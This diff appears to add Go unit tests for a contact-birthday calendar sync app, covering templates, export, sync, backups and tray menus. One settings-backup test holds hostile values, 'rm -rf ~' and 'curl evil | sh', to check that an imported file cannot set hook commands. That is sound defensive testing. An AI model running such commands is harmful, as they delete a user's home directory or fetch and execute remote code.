+	app.showTodayWindow(contacts)
+	assert.Zero(t, todayWindows(), "Dismissed for today")
+
+	app.Preferences.SetString(config.PrefTodayDismissed, "2024-12-31")
+	app.showTodayWindow(contacts)
+	app.showTodayWindow(contacts)
+	assert.Equal(t, 1, todayWindows(), "Once per run")
+}
+
+func TestLocalization_SummaryTemplate(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+
+	// Valid template
+	app.Preferences.SetString(config.PrefSummaryTemplate, "🎂 {{.Name}}{{if .YearKnown}} ({{.Age}}){{end}}")
+	formatter := app.buildSummaryFormatter()
+	assert.Equal(t, "🎂 Alice (30)", formatter("Alice", 30, true))
+	assert.Equal(t, "🎂 Bob", formatter("Bob", 0, false))
+
+	// Parse error: falls back to the localized default.
+	app.Preferences.SetString(config.PrefSummaryTemplate, "{{.Name")
+	formatter = app.buildSummaryFormatter()
+	assert.Equal(t, "Alice (30 years old)", formatter("Alice", 30, true))
+
+	// Execution error (unknown field): falls back as well.
+	app.Preferences.SetString(config.PrefSummaryTemplate, "{{.Nickname}}")
+	formatter = app.buildSummaryFormatter()
+	assert.Equal(t, "Alice (30 years old)", formatter("Alice", 30, true))
+}
+
+// TestAgeDisplay verifies that the age display preference reaches the summaries, the table and the tray.
+func TestAgeDisplay(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+	c := engine.BirthdayEntry{Name: "Alice", YearKnown: true, AgeNext: 30, NextOccurrence: time.Date(2025, 3, 3, 0, 0, 0, 0, time.UTC)}
+
+	assert.Equal(t, "29 → 30", app.ageLabel(c), "Transitions by default")
+	assert.Equal(t, "Mar 3 – Alice (30)", app.upcomingLabel(c), "Compact labels only show the age turned")
+
+	app.Preferences.SetString(config.PrefAgeDisplay, config.AgeDisplayTurning)
+	assert.Equal(t, "30", app.ageLabel(c))
+	assert.Equal(t, "Alice (30 years old)", app.buildSummaryFormatter()("Alice", 30, true))
+
+	app.Preferences.SetString(config.PrefAgeDisplay, config.AgeDisplayNone)
+	assert.Empty(t, app.ageLabel(c))
+	assert.Equal(t, "Mar 3 – Alice", app.upcomingLabel(c))
+	assert.NotContains(t, app.buildSummaryFormatter()("Alice", 30, true), "30")
+	app.Preferences.SetString(config.PrefSummaryTemplate, "{{.Name}}{{if .YearKnown}} ({{.Age}}){{end}}")
+	assert.Equal(t, "Alice", app.buildSummaryFormatter()("Alice", 30, true))
+}
+
+func TestZodiacLabel(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "fr")
+	app.UpdateLocalizer()
+
+	c := engine.BirthdayEntry{Name: "Alice", DateOfBirth: time.Date(1990, 8, 23, 0, 0, 0, 0, time.UTC)}
+	assert.Equal(t, "♍ Vierge", app.zodiacLabel(c))
+}
+
+func TestExport_CSV(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLanguage, "en")
+	app.UpdateLocalizer()
+
+	contacts := []engine.BirthdayEntry{
+		{
+			Name:           "Doe, Jane",
+			DateOfBirth:    time.Date(1990, 6, 11, 0, 0, 0, 0, time.UTC),
+			YearKnown:      true,
+			NextOccurrence: time.Date(2025, 6, 11, 0, 0, 0, 0, time.UTC),
+			AgeNext:        35,
+		},
+		{
+			Name:           "Bob",
+			DateOfBirth:    time.Date(2000, 2, 29, 0, 0, 0, 0, time.UTC),
+			NextOccurrence: time.Date(2028, 2, 29, 0, 0, 0, 0, time.UTC),
+		},
+	}
+
+	var buf bytes.Buffer
+	require.NoError(t, app.writeContactsCSV(&buf, contacts))
+
+	expected := "Name,Date of birth,Next birthday,Age\n" +
+		"\"Doe, Jane\",1990-06-11,2025-06-11,35\n" +
+		"Bob,--02-29,2028-02-29,\n"
+	assert.Equal(t, expected, buf.String())
+}
+
+func TestDoctor(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	t.Setenv(config.EnvSecretStore, config.SecretStoreFile)
+	app.SecretsDir = t.TempDir()
+	app.Preferences.SetBool(config.PrefServeHTTP, false)
+
+	path := filepath.Join(t.TempDir(), "contacts.vcf")
+	require.NoError(t, os.WriteFile(path, []byte("BEGIN:VCARD\nVERSION:3.0\nFN:Alice\nBDAY:1990-01-01\nEND:VCARD\n"), 0o600))
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeLocal)
+	app.Preferences.SetString(config.PrefLocalPath, path)
+
+	statuses := func(r DoctorReport) map[string]string {
+		m := make(map[string]string)
+		for _, c := range r.Checks {
+			m[c.Name] = c.Status
+		}
+		return m
+	}
+
+	report := app.Doctor(context.Background(), 10)
+	assert.True(t, report.OK)
+	assert.Equal(t, map[string]string{
+		config.DoctorCheckKeyring: config.DoctorOK,
+		config.DoctorCheckSource:  config.DoctorOK,
+		config.DoctorCheckVCards:  config.DoctorOK,
+		config.DoctorCheckPort:    config.DoctorOK,
+		config.DoctorCheckLocales: config.DoctorOK,
+	}, statuses(report))
+
+	// An incomplete user language only warns; an unreachable source fails.
+	require.NoError(t, os.WriteFile(filepath.Join(app.LocalesDir, "active.eo.json"), []byte(`{"menu_refresh": "Aktualigi"}`), 0o600))
+	app.Preferences.SetString(config.PrefLocalPath, filepath.Join(t.TempDir(), "missing.vcf"))
+	report = app.Doctor(context.Background(), 10)
+	assert.False(t, report.OK)
+	assert.Equal(t, config.DoctorFail, statuses(report)[config.DoctorCheckSource])
+	assert.Equal(t, config.DoctorWarn, statuses(report)[config.DoctorCheckLocales])
+}
+
+func TestSyncOnce(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.SecretsDir = t.TempDir()
+	t.Setenv(config.EnvSecretStore, config.SecretStoreFile)
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+
+	path := filepath.Join(t.TempDir(), "contacts.vcf")
+	require.NoError(t, os.WriteFile(path, []byte("BEGIN:VCARD\nVERSION:3.0\nFN:Alice\nBDAY:1990-01-01\nEND:VCARD\n"), 0o600))
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeLocal)
+	app.Preferences.SetString(config.PrefLocalPath, path)
+	marker := filepath.Join(t.TempDir(), "hook.txt")
+	if runtime.GOOS != config.GOOSWindows {
+		app.Preferences.SetString(config.PrefHookSuccess, "sleep 0.2; echo done > "+marker)
+	}
+
+	require.NoError(t, app.SyncOnce())
+	_, err := os.Stat(filepath.Join(app.CacheDir, config.CacheICSFile))
+	assert.NoError(t, err, "The calendar cache is updated")
+	if runtime.GOOS != config.GOOSWindows {
+		_, err = os.Stat(marker)
+		assert.NoError(t, err, "SyncOnce waits for the hooks")
+	}
+
+	app.Preferences.SetString(config.PrefLocalPath, filepath.Join(t.TempDir(), "missing.vcf"))
+	assert.Error(t, app.SyncOnce())
+}
+
+func TestRunDaemon(t *testing.T) {
+	if runtime.GOOS != config.GOOSLinux {
+		t.Skip("systemd only")
+	}
+	app, _, _ := setupTestApp(t)
+	app.SecretsDir = t.TempDir()
+	t.Setenv(config.EnvSecretStore, config.SecretStoreFile)
+	app.Preferences.SetBool(config.PrefServeHTTP, false)
+
+	socket := filepath.Join(t.TempDir(), "notify")
+	conn, err := net.ListenUnixgram(config.NetworkUnixgram, &net.UnixAddr{Name: socket, Net: config.NetworkUnixgram})
+	require.NoError(t, err)
+	defer func() { _ = conn.Close() }()
+	t.Setenv(config.EnvNotifySocket, socket)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	app.Ctx = ctx
+	done := make(chan error, 1)
+	go func() { done <- app.RunDaemon() }()
+
+	// The first synchronization fails (no source): systemd sees the readiness and the failure.
+	var states []string
+	buf := make([]byte, 256)
+	require.NoError(t, conn.SetReadDeadline(time.Now().Add(5*time.Second)))
+	for len(states) < 2 {
+		n, err := conn.Read(buf)
+		require.NoError(t, err)
+		states = append(states, string(buf[:n]))
+	}
+	assert.ElementsMatch(t, []string{config.SdReady, fmt.Sprintf(config.SdStatus, config.MsgSyncFailed)}, states)
+
+	cancel()
+	require.NoError(t, <-done)
+	n, err := conn.Read(buf)
+	require.NoError(t, err)
+	assert.Equal(t, config.SdStopping, string(buf[:n]))
+}
+
+func TestSettingsBackup(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	t.Setenv(config.EnvSecretStore, config.SecretStoreFile)
+	app.SecretsDir = t.TempDir()
+	_, err := app.openSecrets()
+	require.NoError(t, err)
+
+	app.Preferences.SetString(config.PrefUsername, "jane")
+	app.Preferences.SetInt(config.PrefInterval, 30)
+	app.Preferences.SetBool(config.PrefReminderEnabled, true)
+	app.Preferences.SetStringList(config.PrefReminderTriggers, []string{"-P1D", "-PT9H"})
+	app.Preferences.SetString(config.PrefLastRun, "1.0.0")
+	app.Preferences.SetString(config.PrefHookSuccess, "notify-send done")
+	require.NoError(t, secrets.Set("jane", "p@ssw0rd"))
+	require.NoError(t, secrets.Set(config.KeyringPushToken, "tok"))
+
+	var plain, sealed bytes.Buffer
+	require.NoError(t, app.exportSettings(&plain, ""))
+	require.NoError(t, app.exportSettings(&sealed, "passphrase"))
+	assert.NotContains(t, plain.String(), "p@ssw0rd")
+	assert.NotContains(t, sealed.String(), "p@ssw0rd", "Secrets are encrypted")
+	assert.NotContains(t, plain.String(), config.PrefLastRun, "The state of the installation is left out")
+	assert.NotContains(t, plain.String(), config.PrefHookSuccess, "So are the commands")
+
+	// Restore on a fresh installation.
+	other, _, _ := setupTestApp(t)
+	other.SecretsDir = t.TempDir()
+	_, err = other.openSecrets()
+	require.NoError(t, err)
+
+	backup, err := readSettings(bytes.NewReader(sealed.Bytes()))
+	require.NoError(t, err)
+	_, err = other.restoreSettings(backup, "wrong")
+	assert.ErrorContains(t, err, config.ErrSecretsDecrypt)
+	assert.Empty(t, other.Preferences.String(config.PrefUsername), "A wrong passphrase changes nothing")
+
+	count, err := other.restoreSettings(backup, "passphrase")
+	require.NoError(t, err)
+	assert.Equal(t, 4, count)
+	assert.Equal(t, "jane", other.Preferences.String(config.PrefUsername))
+	assert.Equal(t, 30, other.Preferences.Int(config.PrefInterval))
+	assert.True(t, other.Preferences.Bool(config.PrefReminderEnabled))
+	assert.Equal(t, []string{"-P1D", "-PT9H"}, other.Preferences.StringList(config.PrefReminderTriggers))
+	got, err := secrets.Get("jane")
+	require.NoError(t, err)
+	assert.Equal(t, "p@ssw0rd", got)
+
+	// A crafted file cannot set the commands run by the sync that follows the import.
+	crafted := map[string]any{config.PrefHookFailure: "rm -rf ~", config.PrefExecCommand: "curl evil | sh"}
+	count, err = other.restoreSettings(settingsBackup{App: config.AppID, Version: config.BackupVersion, Preferences: crafted}, "")
+	require.NoError(t, err)
+	assert.Zero(t, count)
+	assert.Empty(t, other.Preferences.String(config.PrefHookFailure))
+	assert.Empty(t, other.Preferences.String(config.PrefExecCommand))
+
+	_, err = readSettings(strings.NewReader(`{"app": "other", "version": 1}`))
+	assert.ErrorContains(t, err, config.ErrBackupFile)
+	_, err = readSettings(strings.NewReader(`{"app": "` + config.AppID + `", "version": 99}`))
+	assert.ErrorContains(t, err, fmt.Sprintf(config.ErrBackupVersion, 99))
+}
+
+func TestMigrate_ReminderTriggers(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Preferences.SetString(config.PrefLastRun, "1.0.0")
+	app.Preferences.SetInt(config.PrefReminderValue, 9)
+	app.Preferences.SetString(config.PrefReminderUnit, config.UnitHours)
+	app.Preferences.SetString(config.PrefReminderDir, config.DirAfter)
+
+	migrateReminderTriggers(app.Preferences)
+	assert.Equal(t, []string{"P9H"}, app.Preferences.StringList(config.PrefReminderTriggers))
+	assert.Equal(t, []string{"P9H"}, app.reminderTriggers())
+	for _, key := range []string{config.PrefReminderValue, config.PrefReminderUnit, config.PrefReminderDir} {
+		_, ok := prefs.Lookup(app.Preferences, key)
+		assert.False(t, ok, "Obsolete %s is removed", key)
+	}
+
+	// Saved triggers win over leftovers of the single reminder, which are only removed.
+	app.Preferences.SetInt(config.PrefReminderValue, 2)
+	migrateReminderTriggers(app.Preferences)
+	assert.Equal(t, []string{"P9H"}, app.Preferences.StringList(config.PrefReminderTriggers))
+	_, ok := prefs.Lookup(app.Preferences, config.PrefReminderValue)
+	assert.False(t, ok)
+
+	app.Migrate()
+	assert.Equal(t, config.Version, app.Preferences.String(config.PrefLastRun))
+}
+
+func TestTestConnection(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Fetcher = engine.NewRetryFetcher(engine.NewHTTPFetcher())
+
+	authLabels, _ := app.authTypeOptions()
+	sw := &settingsWidgets{
+		modeSelect: widget.NewSelect(slices.Collect(maps.Keys(app.modeCodes())), nil),
+		urlEntry:   widget.NewEntry(), userEntry: widget.NewEntry(), passEntry: widget.NewPasswordEntry(),
+		authSelect: widget.NewSelect(authLabels, nil), tokenEntry: widget.NewEntry(),
+		tokenURLEntry: widget.NewEntry(), clientIDEntry: widget.NewEntry(), secretEntry: widget.NewEntry(), refreshEntry: widget.NewEntry(),
+		proxyEntry: widget.NewEntry(), proxyUser: widget.NewEntry(), proxyPass: widget.NewPasswordEntry(),
+		caFileEntry: widget.NewEntry(), certEntry: widget.NewEntry(), keyEntry: widget.NewEntry(), checkInsecure: widget.NewCheck("", nil),
+		pathEntry: widget.NewEntry(), tbirdEntry: widget.NewEntry(), execEntry: widget.NewEntry(),
+	}
+	sw.authSelect.SetSelected(authLabels[0])
+	try := func() (string, bool) {
+		return app.testConnection(context.Background(), app.sourceConfig(app.loadSyncConfig(), sw))
+	}
+
+	// A local file, not saved yet.
+	path := filepath.Join(t.TempDir(), "contacts.vcf")
+	require.NoError(t, os.WriteFile(path, []byte("BEGIN:VCARD\nVERSION:3.0\nFN:Jane\nBDAY:19900101\nEND:VCARD\n"+
+		"BEGIN:VCARD\nVERSION:3.0\nFN:John\nEND:VCARD\n"), 0o600))
+	sw.modeSelect.SetSelected(app.GetMsg(config.TKeyModeLocal))
+	sw.pathEntry.SetText(path)
+	msg, ok := try()
+	assert.True(t, ok)
+	assert.Equal(t, fmt.Sprintf(app.GetMsg(config.TKeyTestConnOK), 2, 1), msg)
+	assert.Empty(t, app.Preferences.String(config.PrefLocalPath), "Nothing is saved")
+
+	var calls atomic.Int32
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		calls.Add(1)
+		switch user, pass, _ := r.BasicAuth(); {
+		case r.URL.Path == "/missing":
+			w.WriteHeader(http.StatusNotFound)
+		case user != "jane" || pass != "secret":
+			w.WriteHeader(http.StatusUnauthorized)
+		case r.URL.Path == "/page":
+			_, _ = io.WriteString(w, "<html>Login</html>")
+		default:
+			_, _ = io.WriteString(w, "BEGIN:VCARD\nVERSION:3.0\nFN:Jane\nBDAY:1990-13-45\nEND:VCARD")
+		}
+	}))
+	defer ts.Close()
+
+	sw.modeSelect.SetSelected(app.GetMsg(config.TKeyModeCardDAV))
+	sw.urlEntry.SetText(ts.URL)
+	sw.userEntry.SetText("jane")
+	sw.passEntry.SetText("wrong")
+	msg, ok = try()
+	assert.False(t, ok)
+	assert.True(t, strings.HasPrefix(msg, fmt.Sprintf(app.GetMsg(config.TKeyTestConnAuth), http.StatusUnauthorized)), msg)
+
+	sw.passEntry.SetText("secret")
+	msg, ok = try()
+	assert.True(t, ok)
+	assert.Contains(t, msg, fmt.Sprintf(app.GetMsg(config.TKeyTestConnOK), 1, 0))
+	assert.Contains(t, msg, fmt.Sprintf(app.GetMsg(config.TKeyTestConnSkipped), 0, 1))
+
+	sw.urlEntry.SetText(ts.URL + "/page")
+	msg, ok = try()
+	assert.False(t, ok)
+	assert.True(t, strings.HasPrefix(msg, app.GetMsg(config.TKeyTestConnParse)), msg)
+
+	calls.Store(0)
+	sw.urlEntry.SetText(ts.URL + "/missing")
+	msg, ok = try()
+	assert.False(t, ok)
+	assert.True(t, strings.HasPrefix(msg, app.GetMsg(config.TKeyTestConnNotFound)), msg)
+	assert.Equal(t, int32(1), calls.Load(), "The test is not retried")
+
+	// A certificate the system does not trust.
+	tlsServer := httptest.NewTLSServer(http.NotFoundHandler())
+	defer tlsServer.Close()
+	sw.urlEntry.SetText(tlsServer.URL)
+	msg, ok = try()
+	assert.False(t, ok)
+	assert.True(t, strings.HasPrefix(msg, app.GetMsg(config.TKeyTestConnTLS)), msg)
+
+	ts.Close()
+	sw.urlEntry.SetText(ts.URL)
+	msg, ok = try()
+	assert.False(t, ok)
+	assert.True(t, strings.HasPrefix(msg, app.GetMsg(config.TKeyTestConnNetwork)), msg)
+}
+
+func TestPreviewCalendar(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Clock = MockClock{CurrentTime: time.Date(2025, 1, 1, 10, 0, 0, 0, time.UTC)}
+	path := filepath.Join(t.TempDir(), "contacts.vcf")
+	require.NoError(t, os.WriteFile(path, []byte("BEGIN:VCARD\nVERSION:3.0\nFN:Jane\nBDAY:19900101\nEND:VCARD\n"+
+		"BEGIN:VCARD\nVERSION:3.0\nFN:John\nBDAY:--0611\nEND:VCARD\n"), 0o600))
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeLocal)
+	app.Preferences.SetString(config.PrefLocalPath, path)
+	saved := app.Preferences
+
+	// Settings being edited, as the settings window stores them in a draft.
+	app.Preferences = prefs.NewDraft(saved)
+	app.Preferences.SetString(config.PrefSummaryTemplate, "Party for {{.Name}}")
+	ics, events, contacts, err := app.previewCalendar(context.Background(), app.loadSyncConfig())
+	require.NoError(t, err)
+	assert.Equal(t, 2, contacts)
+	assert.Equal(t, strings.Count(ics, "BEGIN:VEVENT"), events)
+	assert.Positive(t, events)
+	assert.Contains(t, ics, "SUMMARY:Party for Jane")
+	assert.Empty(t, saved.String(config.PrefSummaryTemplate), "Nothing is saved")
+	assert.Empty(t, app.Server.Data(), "Nothing is published")
+
+	lines := firstLines(ics, 3)
+	assert.Equal(t, 2, strings.Count(lines, "\n"))
+	assert.True(t, strings.HasPrefix(lines, "BEGIN:VCALENDAR\n"), lines)
+	assert.Equal(t, strings.ReplaceAll(strings.TrimSuffix(ics, config.ICalLineBreak), config.ICalLineBreak, "\n"),
+		strings.TrimSuffix(firstLines(ics, 10000), "\n"))
+}
+
+func TestAddressBooks(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		assert.Equal(t, config.NextcloudExportQuery, r.URL.RawQuery)
+		_, _ = fmt.Fprintf(w, "BEGIN:VCARD\nVERSION:3.0\nUID:%s\nFN:%s\nBDAY:19900101\nEND:VCARD", r.URL.Path, path.Base(r.URL.Path))
+	}))
+	defer ts.Close()
+	app.Fetcher = engine.NewHTTPFetcher()
+
+	// The settings window resets the address books when the URL is edited.
+	authLabels, _ := app.authTypeOptions()
+	sw := &settingsWidgets{
+		modeSelect: widget.NewSelect(slices.Collect(maps.Keys(app.modeCodes())), nil),
+		urlEntry:   widget.NewEntry(), userEntry: widget.NewEntry(), passEntry: widget.NewPasswordEntry(),
+		authSelect: widget.NewSelect(authLabels, nil), booksLabel: widget.NewLabel(""),
+	}
+	sw.urlEntry.OnChanged = func(string) { app.setAddressBooks(sw, nil) }
+
+	books := []engine.AddressBook{{Name: "Family", URL: ts.URL + "/family/"}, {Name: "Work", URL: ts.URL + "/work/"}}
+	app.applyAddressBooks(sw, books, config.NextcloudExportQuery, "jane", "secret")
+	assert.Equal(t, ts.URL+"/family/?export", sw.urlEntry.Text)
+	assert.Equal(t, []string{ts.URL + "/family/?export", ts.URL + "/work/?export"}, sw.addressBooks)
+	assert.True(t, sw.booksLabel.Visible())
+	assert.Equal(t, "jane", sw.userEntry.Text)
+
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, sw.urlEntry.Text)
+	app.Preferences.SetStringList(config.PrefAddressBooks, sw.addressBooks)
+	require.NoError(t, app.performSync(false))
+	assert.Len(t, app.Contacts, 2, "Both address books are merged")
+
+	sw.urlEntry.SetText(ts.URL + "/work/?export")
+	assert.Empty(t, sw.addressBooks)
+	assert.False(t, sw.booksLabel.Visible())
+	app.applyAddressBooks(sw, books[1:], config.NextcloudExportQuery, "jane", "secret")
+	assert.Empty(t, sw.addressBooks, "A single address book is the URL alone")
+}
+
+func TestRefreshInterval(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	assert.Equal(t, config.DefaultRefreshMin, app.refreshInterval(config.SourceModeLocal))
+
+	// The former global interval applies to the sources without their own.
+	app.Preferences.SetInt(config.PrefInterval, 30)
+	app.Preferences.SetInt(fmt.Sprintf(config.PrefIntervalOf, config.SourceModeLocal), 5)
+	assert.Equal(t, 5, app.refreshInterval(config.SourceModeLocal))
+	assert.Equal(t, 30, app.refreshInterval(config.SourceModeWeb))
+
+	// The settings window shows the interval of the selected source and keeps the edited ones.
+	sw := &settingsWidgets{
+		modeSelect:    widget.NewSelect(slices.Collect(maps.Keys(app.modeCodes())), nil),
+		entryInterval: NewNumericalEntry(),
+		intervals:     map[string]string{},
+	}
+	sw.modeSelect.OnChanged = func(mode string) { app.switchInterval(sw, mode) }
+	sw.modeSelect.SetSelected(app.GetMsg(config.TKeyModeLocal))
+	assert.Equal(t, "5", sw.entryInterval.Text)
+	sw.modeSelect.SetSelected(app.GetMsg(config.TKeyModeCardDAV))
+	assert.Equal(t, "30", sw.entryInterval.Text)
+	sw.entryInterval.SetText("60")
+	sw.modeSelect.SetSelected(app.GetMsg(config.TKeyModeLocal))
+	assert.Equal(t, "5", sw.entryInterval.Text)
+	sw.modeSelect.SetSelected(app.GetMsg(config.TKeyModeCardDAV))
+	assert.Equal(t, "60", sw.entryInterval.Text)
+	assert.Equal(t, map[string]string{config.SourceModeLocal: "5", config.SourceModeWeb: "60"}, sw.intervals,
+		"The edited intervals are kept until saved")
+}
+
+func TestTraySyncItems(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.Clock = MockClock{CurrentTime: time.Date(2024, 5, 10, 12, 4, 0, 0, time.Local)}
+	app.setupTrayMenu()
+	assert.Equal(t, "Not synchronized yet", app.TrayLastSyncItem.Label)
+	assert.Equal(t, "Next sync in less than a minute", app.TrayNextSyncItem.Label)
+	assert.True(t, app.TrayLastSyncItem.Disabled)
+	assert.True(t, app.TrayNextSyncItem.Disabled)
+
+	app.recordSync(nil)
+	app.scheduleSync(37 * time.Minute)
+	assert.Equal(t, "Last sync: 12:04 (ok)", app.TrayLastSyncItem.Label)
+	assert.Equal(t, "Next sync in 37 min", app.TrayNextSyncItem.Label)
+
+	// The countdown is rounded up, then the last minute has no count.
+	app.Clock = MockClock{CurrentTime: time.Date(2024, 5, 10, 12, 40, 30, 0, time.Local)}
+	app.updateSyncItems()
+	assert.Equal(t, "Next sync in less than a minute", app.TrayNextSyncItem.Label)
+	app.Clock = MockClock{CurrentTime: time.Date(2024, 5, 10, 12, 20, 30, 0, time.Local)}
+	app.updateSyncItems()
+	assert.Equal(t, "Next sync in 21 min", app.TrayNextSyncItem.Label)
+
+	app.recordSync(errors.New("HTTP 500"))
+	assert.Equal(t, "Last sync: 12:20 (failed)", app.TrayLastSyncItem.Label)
+	assert.False(t, app.isOffline())
+
+	// Without network, the worker retries until a synchronization works.
+	app.recordSync(fmt.Errorf("%w: %w", engine.ErrNetwork, &net.DNSError{Err: "no such host", Name: "dav.example.com"}))
+	assert.Equal(t, "Last sync: 12:20 (offline)", app.TrayLastSyncItem.Label)
+	assert.True(t, app.isOffline())
+	app.recordSync(nil)
+	assert.False(t, app.isOffline())
+}
+
+func TestCancelSync(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	app.setupTrayMenu()
+	requested := make(chan struct{})
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		close(requested)
+		<-r.Context().Done() // A huge address book, still downloading
+	}))
+	defer ts.Close()
+	app.Fetcher = engine.NewHTTPFetcher()
+	app.Preferences.SetString(config.PrefSourceMode, config.SourceModeWeb)
+	app.Preferences.SetString(config.PrefCardDAVURL, ts.URL)
+
+	assert.True(t, app.TrayCancelItem.Disabled)
+	done := make(chan error, 1)
+	go func() { done <- app.performSync(false) }()
+	<-requested
+	assert.False(t, app.TrayCancelItem.Disabled)
+	assert.Equal(t, "Synchronizing…", app.TrayLastSyncItem.Label)
+
+	app.CancelSync()
+	select {
+	case err := <-done:
+		assert.ErrorIs(t, err, context.Canceled)
+	case <-time.After(5 * time.Second):
+		t.Fatal("The synchronization was not canceled")
+	}
+	assert.True(t, app.TrayCancelItem.Disabled)
+	assert.Equal(t, "Not synchronized yet", app.TrayLastSyncItem.Label, "A canceled synchronization is not recorded")
+	assert.NotEqual(t, config.FallbackTrayError, app.TrayStatusItem.Label)
+
+	// The progress of the synchronization in progress replaces the last one.
+	_, run := app.startSync()
+	app.syncProgress(run, engine.Progress{Bytes: 3 * config.BytesPerMB / 2, Cards: 12000})
+	assert.Equal(t, "Synchronizing: 12000 contacts read (1.5 MB)", app.TrayLastSyncItem.Label)
+	app.endSync(run)
+}
+
+// TestApplyPort_AfterBusyPort verifies that saving another port starts the server which could not
+// start on a busy one.
+func TestApplyPort_AfterBusyPort(t *testing.T) {
+	app, _, _ := setupTestApp(t)
+	busy, err := net.Listen(config.NetworkTCP, "127.0.0.1:18097")
+	require.NoError(t, err)
+	defer func() { _ = busy.Close() }()
+	require.NoError(t, app.Server.Restart("18097"))
+
+	app.startServer()
+	require.True(t, app.serverFailed.Load())
+
+	app.Preferences.SetString(config.PrefServerPort, "18098")
+	app.applyPort()
+	assert.Eventually(t, func() bool {
+		resp, err := http.Get("http://127.0.0.1:18098/")
+		if err != nil {
+			return false
+		}
+		_ = resp.Body.Close()
+		return true
+	}, 2*time.Second, 20*time.Millisecond)
+	assert.False(t, app.serverFailed.Load())
+}